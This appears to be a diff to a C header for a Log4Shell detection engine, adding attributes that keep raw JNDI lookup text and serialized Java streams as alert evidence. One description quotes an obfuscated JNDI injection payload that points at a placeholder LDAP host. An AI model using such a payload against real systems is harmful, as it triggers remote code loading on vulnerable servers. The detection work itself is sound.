@@ -10,6 +10,8 @@
 #define ATTRS(X) \
     X(JNDI_STAGE, "jndi.stage", "lookup, callback, referral, reference, deserialization, class_delivery") \
     X(JNDI_NAME, "jndi.name", "the name that Log4j hands to JNDI: ldap://203.0.113.9:1389/a") \
+    X(JNDI_RAW, "jndi.raw", \
+      "the text it was worked out of, as it came: ${${lower:j}ndi:ldap://203.0.113.9:1389/a}") \
     X(JNDI_SCHEME, "jndi.scheme", "its scheme, in the case it has") \
     X(JNDI_HOST, "jndi.host", "its host: a name, an IPv4 address, an IPv6 address without brackets") \
     X(JNDI_PORT, "jndi.port", "its port in decimal, JNDI's default when it has none") \
@@ -101,6 +103,7 @@
     X(JAVA_CONTENT, "java.content", \
       "reference, stub, exception, serialized, class, jar; no-object for serialized data that is no Java " \
       "stream") \
+    X(JAVA_SERIALIZED, "java.serialized", "a serialized stream itself, from its ac ed 00 05 on") \
     X(JAVA_CLIENT, "java.client", "yes when the HTTP client says that it is a JVM") \
     X(JAVA_GADGET, "java.gadget", \
       "one value per gadget family whose classes a serialized stream names: CommonsCollections6, ROME ...") \
@@ -163,6 +166,12 @@ static inline bool attr_set_covers(const struct attr_set *s, const struct attr_s
     for (unsigned i = 0; i < ATTR_WORDS; i++)
         missing |= part->word[i] & ~s->word[i];
     return missing == 0;
+}
+
+/* True of what only rules ask for: it is evidence, which alerts show in a place of its own. */
+static inline bool attr_is_evidence(enum attr_id id)
+{
+    return id == ATTR_JNDI_RAW || id == ATTR_JAVA_SERIALIZED;
 }
 
 struct attr_set attrs_present(const struct attrs *a);
